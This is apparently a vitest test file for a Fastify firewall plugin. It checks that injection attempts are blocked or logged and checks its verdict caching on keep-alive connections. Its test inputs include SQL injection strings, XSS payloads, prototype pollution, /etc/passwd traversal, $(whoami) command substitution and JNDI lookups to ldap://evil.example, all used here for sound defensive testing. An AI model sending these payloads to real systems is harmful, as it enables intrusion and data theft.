import http from 'node:http';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterEach, describe, expect, it } from 'vitest';
import { firewallPlugin, type FirewallPluginOptions } from './firewall.plugin.js';

let app: FastifyInstance | undefined;

async function build(options: FirewallPluginOptions = {}): Promise<FastifyInstance> {
  const lines: string[] = [];
  const instance = Fastify({
    logger: { level: 'info', stream: { write: (line: string) => lines.push(line) } },
  });
  instance.decorate('logLines', lines);
  await instance.register(firewallPlugin, {
    now: () => new Date('2024-03-12T14:00:00Z'),
    recentEvents: 2,
    ...options,
  });
  instance.post('/api/v1/orders', async (request) => ({ received: request.body }));
  instance.get('/api/v1/assets', async (request) => ({ query: request.query }));
  // Registered after the firewall's own hook: it must still run after the firewall has judged the request.
  instance.addHook('onRequest', async (request) => {
    if (request.headers['x-fail-auth'] !== undefined)
      throw Object.assign(new Error('no'), { statusCode: 401 });
  });
  await instance.ready();
  app = instance;
  return instance;
}

/** POSTs a JSON body that tries to pollute `Object.prototype` (the firewall refuses it) to `url`. */
function postPollution(server: FastifyInstance, url: string) {
  return server.inject({
    method: 'POST',
    url,
    headers: { 'content-type': 'application/json' },
    payload: '{"name":"x","__proto__":{"admin":true}}',
  });
}

/** POSTs a raw body of the given media type to the test route. */
function postOrder(
  server: FastifyInstance,
  contentType: string,
  payload: string,
  headers: Record<string, string> = {},
) {
  return server.inject({
    method: 'POST',
    url: '/api/v1/orders',
    headers: { 'content-type': contentType, ...headers },
    payload,
  });
}

afterEach(async () => {
  await app?.close();
  app = undefined;
});

describe('firewallPlugin', () => {
  it('answers 403 EDGE_REQUEST_BLOCKED with the rule ids when a request is an attack', async () => {
    const server = await build();
    const response = await server.inject({ method: 'GET', url: "/api/v1/assets?search=1' or '1'='1" });
    expect(response.statusCode).toBe(403);
    const body = response.json<{ code: string; message: string; requestId: string; rules: string[] }>();
    expect(body.code).toBe('EDGE_REQUEST_BLOCKED');
    expect(body.requestId).toBe(response.headers['x-request-id'] ?? body.requestId);
    expect(body.rules).toContain('sqli.structure-strong');
    expect(server.firewall.counters.blocked).toBe(1);
    expect(server.firewall.counters.byRule['sqli.structure-strong']).toBe(1);
  });

  it('inspects the raw JSON body and still hands it to the parser intact', async () => {
    const server = await build();
    const order = { symbol: 'AAPL', qty: '10', note: 'Buy && hold -- Дмитрий 🚀' };
    const ok = await server.inject({ method: 'POST', url: '/api/v1/orders', payload: order });
    expect(ok.statusCode).toBe(200);
    expect(ok.json()).toEqual({ received: order });
    const bad = await postOrder(server, 'application/json', '{"symbol":"AAPL","__proto__":{"admin":true}}');
    expect(bad.statusCode).toBe(403);
    expect(bad.json<{ rules: string[] }>().rules).toContain('prototype.pollution');
    expect(server.firewall.counters.inspected).toBe(2);
  });

  it('judges a JSON body whatever the media type parameters and case, and a blocked one is answered 403 before the route', async () => {
    const server = await build();
    const attack = await postOrder(
      server,
      'Application/JSON; charset=utf-8',
      '{"symbol":"AAPL","note":"1 union select password from users--"}',
    );
    expect(attack.statusCode).toBe(403);
    expect(attack.json<{ code: string; rules: string[] }>()).toMatchObject({ code: 'EDGE_REQUEST_BLOCKED' });
    expect(attack.json<{ rules: string[] }>().rules.some((r) => r.startsWith('sqli.'))).toBe(true);
    expect(server.firewall.counters.blocked).toBe(1);
    const plain = await postOrder(server, 'application/json; charset=utf-8', '{"symbol":"AAPL","qty":"1"}');
    expect(plain.json()).toEqual({ received: { symbol: 'AAPL', qty: '1' } });
  });

  it('still refuses an empty or malformed JSON body as the default parser does, after judging it', async () => {
    const server = await build();
    const empty = await postOrder(server, 'application/json', '', { 'transfer-encoding': 'chunked' });
    expect(empty.statusCode).toBe(400);
    const malformed = await postOrder(server, 'application/json', '{"symbol": AAPL');
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json<{ code: string }>().code).toBe('FST_ERR_CTP_INVALID_JSON_BODY');
    expect(server.firewall.counters.inspected).toBe(2);
  });

  it('judges a body of another media type before Fastify refuses it as unsupported', async () => {
    const server = await build();
    const attack = await postOrder(
      server,
      'application/x-www-form-urlencoded',
      'note=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    );
    expect(attack.statusCode).toBe(403);
    const harmless = await postOrder(server, 'application/x-www-form-urlencoded', 'note=hello');
    expect(harmless.statusCode).toBe(415);
  });

  it('only logs, redacted, in detect-only mode', async () => {
    const server = await build({ mode: 'detect' });
    const response = await server.inject({
      method: 'GET',
      url: '/api/v1/assets?q=<script>alert(1)</script>',
      headers: { cookie: 'pulse_session=${jndi:ldap://x/secret-token}' },
    });
    expect(response.statusCode).toBe(200);
    expect(server.firewall.counters).toMatchObject({ inspected: 1, blocked: 0, detected: 1 });
    const log = (server as unknown as { logLines: string[] }).logLines.join('\n');
    expect(log).toContain('firewall would block the request (detect-only)');
    expect(log).toContain('xss.script-tag');
    expect(log).not.toContain('secret-token');
  });

  it('keeps a bounded ring buffer of recent events, newest last', async () => {
    const server = await build();
    for (const q of ['<script>1</script>', '../../etc/passwd', '$(whoami)']) {
      await server.inject({ method: 'GET', url: `/api/v1/assets?q=${encodeURIComponent(q)}&token=abc` });
    }
    const events = server.firewall.recent();
    expect(events).toHaveLength(2);
    expect(events.map((e) => e.matches[0]?.family)).toEqual(['lfi', 'rce']);
    expect(events[1]).toMatchObject({
      path: '/api/v1/assets',
      action: 'block',
      at: '2024-03-12T14:00:00.000Z',
    });
  });

  it('judges a request for no route: its head, and a JSON body in the parser', async () => {
    const server = await build();
    const head = await server.inject({ method: 'GET', url: '/nowhere?q=<script>alert(1)</script>' });
    expect(head.statusCode).toBe(403);
    expect(head.json<{ code: string }>().code).toBe('EDGE_REQUEST_BLOCKED');
    const json = await postPollution(server, '/nowhere');
    expect(json.statusCode).toBe(403);
    expect(json.json<{ code: string }>().code).toBe('EDGE_REQUEST_BLOCKED');
    const clean = await server.inject({ method: 'POST', url: '/nowhere', payload: { name: 'x' } });
    expect(clean.statusCode).toBe(404);
    expect(server.firewall.counters).toMatchObject({ inspected: 3, blocked: 2 });
  });

  it('refuses a JSON attack on a route registered before the plugin, which has none of its body hooks', async () => {
    const instance = Fastify();
    instance.post('/early', async () => ({ reached: true }));
    await instance.register(firewallPlugin, {});
    app = instance;
    const attack = await postPollution(instance, '/early');
    expect(attack.statusCode).toBe(403);
    expect(attack.json<{ code: string }>().code).toBe('EDGE_REQUEST_BLOCKED');
    const clean = await instance.inject({ method: 'POST', url: '/early', payload: { name: 'x' } });
    expect(clean.json()).toEqual({ reached: true });
  });

  it('refuses a GET that carries a body, whose body no route would read', async () => {
    const server = await build();
    const response = await server.inject({
      method: 'GET',
      url: '/api/v1/assets',
      headers: { 'content-type': 'text/plain' },
      payload: 'hello',
    });
    expect(response.statusCode).toBe(403);
    expect(response.json<{ rules: string[] }>().rules).toContain('protocol.get-with-body');
  });

  it('judges a bodiless request before the onRequest hooks registered after it (authentication)', async () => {
    const server = await build();
    const attack = await server.inject({
      method: 'GET',
      url: "/api/v1/assets?search=1' or '1'='1",
      headers: { 'x-fail-auth': '1' },
    });
    expect(attack.statusCode).toBe(403);
    const clean = await server.inject({
      method: 'GET',
      url: '/api/v1/assets',
      headers: { 'x-fail-auth': '1' },
    });
    expect(clean.statusCode).toBe(401);
  });

  it('answers 413 when the body exceeds the route limit', async () => {
    const server = await build();
    const response = await postOrder(
      server,
      'application/json',
      JSON.stringify({ note: 'x'.repeat(1_100_000) }),
    );
    expect(response.statusCode).toBe(413);
  });

  /** A server listening on loopback and a client that sends every request over one keep-alive connection. */
  async function overOneConnection() {
    const server = await build();
    const base = await server.listen({ host: '127.0.0.1', port: 0 });
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const ports = new Set<number>();
    const send = (method: string, path: string, headers: Record<string, string> = {}, body?: string) =>
      new Promise<number>((resolve, reject) => {
        const request = http.request(`${base}${path}`, { method, agent, headers }, (response) => {
          response.resume();
          response.on('end', () => resolve(response.statusCode ?? 0));
        });
        request.on('socket', (socket) => socket.once('connect', () => ports.add(socket.localPort ?? 0)));
        request.on('error', reject);
        request.end(body);
      });
    return { server, send, ports, close: () => agent.destroy() };
  }

  it('judges every request on one connection, reusing a verdict only for a byte-identical request', async () => {
    const { server, send, ports, close } = await overOneConnection();
    const get = (path: string, headers: Record<string, string> = {}) => send('GET', path, headers);
    try {
      const statuses = [
        await get('/api/v1/assets?search=tech'),
        await get('/api/v1/assets?search=tech'),
        await get('/api/v1/assets?search=tech', { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
        await get('/api/v1/assets?search=tech'),
        await get("/api/v1/assets?search=1' or '1'='1"),
        await get("/api/v1/assets?search=1' or '1'='1"),
      ];
      expect(ports.size).toBe(1); // one connection carried them all
      expect(statuses).toEqual([200, 200, 403, 200, 403, 403]);
      expect(server.firewall.counters).toMatchObject({ inspected: 6, blocked: 3 });
    } finally {
      close();
    }
  });

  it('judges every body sent with the same head on one connection, and a changed head in full', async () => {
    const { server, send, ports, close } = await overOneConnection();
    // Bodies of one length, so the heads (Content-Length included) are byte-identical.
    const note = (text: string) => JSON.stringify({ symbol: 'AAPL', note: text.padEnd(40, '.') });
    const clean = note('buy the dip');
    const sqli = note("1' union select password from users--");
    const xss = note('<script>alert(document.cookie)</script>');
    expect(new Set([clean, sqli, xss].map((b) => b.length)).size).toBe(1);
    const json = { 'content-type': 'application/json' };
    const post = (body: string, headers: Record<string, string> = {}) =>
      send('POST', '/api/v1/orders', { ...json, ...headers }, body);
    try {
      const statuses = [
        await post(clean),
        await post(sqli),
        await post(clean),
        await post(xss),
        await post(xss),
        await post(clean, { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
        await post(clean),
        // Another media type goes through the body hook that buffers it: judged the same way.
        await send('POST', '/api/v1/orders', { 'content-type': 'text/plain' }, sqli),
        await send('POST', '/api/v1/orders', { 'content-type': 'text/plain' }, clean),
      ];
      expect(ports.size).toBe(1);
      expect(statuses).toEqual([200, 403, 200, 403, 403, 403, 200, 403, 200]);
      // Judged in full: the first, the changed head, the one after it, and the first text/plain one.
      expect(server.firewall.counters).toMatchObject({ inspected: 9, blocked: 5, remembered: 5 });
    } finally {
      close();
    }
  });

  it('judges bodies of any length against one judged head, and only a Content-Length may differ', async () => {
    const { server, send, ports, close } = await overOneConnection();
    const json = { 'content-type': 'application/json' };
    const post = (note: string, headers: Record<string, string> = {}) =>
      send('POST', '/api/v1/orders', { ...json, ...headers }, JSON.stringify({ symbol: 'AAPL', note }));
    try {
      const statuses = [
        await post('buy'),
        await post("1' union select password from users--"),
        await post('a longer note about buying the dip'),
        await post('<script>alert(document.cookie)</script>'),
        await post('sell'),
        // Same length as 'sell', another header value: judged in full.
        await post('hold', { 'x-api-version': '${jndi:ldap://evil.example/a}' }),
        await post('hold', { 'x-api-version': '2' }),
        await post('a different length', { 'x-api-version': '2' }),
      ];
      expect(ports.size).toBe(1);
      expect(statuses).toEqual([200, 403, 200, 403, 200, 403, 200, 200]);
      expect(server.firewall.counters).toMatchObject({ inspected: 8, blocked: 3, remembered: 5 });
    } finally {
      close();
    }
  });
});
